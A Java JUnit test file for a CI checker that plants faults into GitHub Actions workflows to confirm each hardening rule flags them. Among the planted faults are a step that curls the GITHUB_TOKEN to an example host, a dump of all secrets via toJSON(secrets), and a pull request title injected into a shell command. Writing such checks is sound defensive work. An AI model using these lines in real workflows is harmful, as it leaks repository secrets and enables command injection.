package hello.workflows;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The workflows keep the rules, and the rules notice what breaks them. */
class WorkflowsTest {

    @Test
    void workflowsKeepTheRules() {
        Map<String, String> workflows = Workflows.read();
        assertThat(workflows)
                .containsOnlyKeys("verify.yml", "release.yml", "promote.yml", "cluster.yml", "security.yml");
        List<String> complaints = new ArrayList<>();
        workflows.forEach((name, text) -> complaints.addAll(Workflows.complaints(name, text)));
        assertThat(complaints).isEmpty();
    }

    /** One fault each, planted where it would be made. */
    @ParameterizedTest(name = "{3}")
    @CsvSource(delimiter = '|', quoteCharacter = '`', textBlock = """
            verify.yml   | ` # v7.0.1`                     | ``                              | not pinned
            verify.yml   | @3d3c42e5aac5ba805825da76410c181273ba90b1 | @v7                   | not pinned
            verify.yml   | permissions: {}                 | permissions: {contents: write}  | rights at the top
            verify.yml   | ` # the source`                 | ``                              | no reason beside
            verify.yml   | contents: read                  | contents: write                 | lets a pull request have contents: write
            verify.yml   | `  pull_request:`               | `  pull_request_target:`        | is started by pull_request_target
            verify.yml   | persist-credentials: false      | fetch-depth: 0                  | does not say whether the token stays
            verify.yml   | persist-credentials: false      | persist-credentials: true       | keeps a token
            verify.yml   | make test                       | make tests                      | a target that is not there: tests
            verify.yml   | run: make test                  | `run: make test; curl example.org/$TOKEN\n        env: {TOKEN: "${{ secrets.GITHUB_TOKEN }}"}` | lets a pull request see a secret
            verify.yml   | make test                       | `make test ${{ github.event.pull_request.title }}` | text of others
            verify.yml   | make test                       | npm test                        | neither a target nor a script
            verify.yml   | `    timeout-minutes: 20\n`     | ``                              | may run for hours
            verify.yml   | ubuntu-24.04                    | ubuntu-latest                   | whatever is the latest
            release.yml  | `'gitops/**', `                 | ``                              | starts again on its own bump
            release.yml  | 'gitops/**'                     | `'gitops/charts/**'`            | starts again on its own bump
            release.yml  | 'gitops/**'                     | `'gitops/**', 'service/**'`     | does not start on a change of code
            release.yml  | branches: [main]                | branches: [main, try]           | is not for main alone
            release.yml  | `  queue: max`                  | `  other: max`                  | may drop or cut off
            release.yml  | cancel-in-progress: false       | cancel-in-progress: true        | may drop or cut off
            release.yml  | group: release                  | `group: release-${{ github.sha }}` | more than one queue
            release.yml  | `  workflow_dispatch:`          | `  pull_request:`               | lets a pull request have packages: write
            release.yml  | .github/scripts/join-platforms          | .github/scripts/join                    | a script that is not there: .github/scripts/join
            release.yml  | ./.github/workflows/verify.yml  | ./.github/workflows/check.yml   | uses what is not there
            release.yml  | run: gitops/bump                | `run: \\|\n          git pull\n          gitops/bump` | does what no script does
            security.yml | `if: github.event_name == 'schedule' || github.event_name == 'workflow_dispatch'` | if: always() | lets a pull request have packages: read
            release.yml  | `    environment: bump # holds BUMP_KEY, which no other branch than main gets\n` | `` | bump has a secret that no environment
            release.yml  | `    environment: bump # holds BUMP_KEY, which no other branch than main gets\n` | `    env: {ALL: "${{ toJSON(secrets) }}"}\n` | bump has a secret that no environment
            release.yml  | `    needs: verify\n`          | `    needs: verify\n    env: {KEY: "${{ secrets.OTHER }}"}\n` | build has a secret that no environment
            release.yml  | `permissions: {}`               | `permissions: {}\nenv: {KEY: "${{ secrets.BUMP_KEY }}"}` | gives every job a secret
            release.yml  | `./.github/workflows/verify.yml` | `./.github/workflows/verify.yml\n    secrets: inherit` | hands secrets on
            release.yml  | java-version-file: .tool-versions | java-version: 25              | a Java of its own
            verify.yml   | `verify-signature: true, `      | ``                              | signature nobody checked
            security.yml | 1.26.8                          | stable                          | whichever Go is there: stable
            cluster.yml  | `version: 2026.8.12`            | install: true                   | whichever mise is the newest
            cluster.yml  | `permissions: {}`               | `permissions: {}\nconcurrency: {group: a}` | lets any label cancel a run
            cluster.yml  | `concurrency: # of the job`     | `env: # of the job`             | e2e has no concurrency group
            verify.yml   | `concurrency:`                  | `env:`                          | has no concurrency group
            promote.yml  | `      contents: write # the branch of the pull request\n` | ``           | keeps a token
            """)
    void faultIsNoticed(String file, String right, String wrong, String complaint) {
        String text = Workflows.read().get(file);
        String before = plain(right);
        assertThat(text).as("where the fault is planted").contains(before);
        String planted =
                text.replaceFirst(Pattern.quote(before), Matcher.quoteReplacement(wrong == null ? "" : plain(wrong)));
        assertThat(Workflows.complaints(file, planted)).anyMatch(found -> found.contains(complaint));
    }

    @Test
    void longWorkflowIsNoticed() {
        assertThat(Workflows.complaints("verify.yml", Workflows.read().get("verify.yml") + "\n".repeat(90)))
                .anyMatch(found -> found.contains("100 lines"));
    }

    @Test
    void readmeHasARowForEachWorkflow() throws IOException {
        String readme = Files.readString(Workflows.root().resolve(".github/workflows/README.md"));
        Workflows.read()
                .keySet()
                .forEach(name -> assertThat(readme).contains("[" + name.replace(".yml", "") + "](" + name + ")"));
    }

    /** The JDK that links the image's runtime, the one in the image that has a Java, and the one that Maven demands. */
    @Test
    void thereIsOneJava() throws IOException {
        String version = found(".tool-versions", "java temurin-(\\S+)\\.0\\.LTS");
        String image = found("service/pom.xml", "<image\\.java\\.base>[^:]+:(\\S+)-jre@sha256:");
        assertThat(image).isEqualTo(tag(version));
        String major = version.substring(0, version.indexOf('.'));
        assertThat(found("pom.xml", "<maven\\.compiler\\.release>(.+)<")).isEqualTo(major);
    }

    @ParameterizedTest
    @CsvSource({"25.0.4+101, 25.0.4.1_1", "25.0.3+9, 25.0.3_9", "26.0.0+36, 26_36"})
    void javasReleaseHasATag(String version, String tag) {
        assertThat(tag(version)).isEqualTo(tag);
    }

    /** A release as Adoptium's API counts it, where 101 is the first patch's build 1, as it stands in the image's tag. */
    private static String tag(String version) {
        String[] parts = version.split("\\+");
        int build = Integer.parseInt(parts[1]);
        String patched = build < 100 ? parts[0].replaceFirst("\\.0\\.0$", "") : parts[0] + "." + build / 100;
        return patched + "_" + build % 100;
    }

    private static String found(String file, String pattern) throws IOException {
        Matcher matcher = Pattern.compile(pattern)
                .matcher(Files.readString(Workflows.root().resolve(file)));
        assertThat(matcher.find()).as(pattern + " in " + file).isTrue();
        return matcher.group(1);
    }

    private static String plain(String text) {
        return text.replace("\\n", "\n").replace("\\|", "|");
    }
}
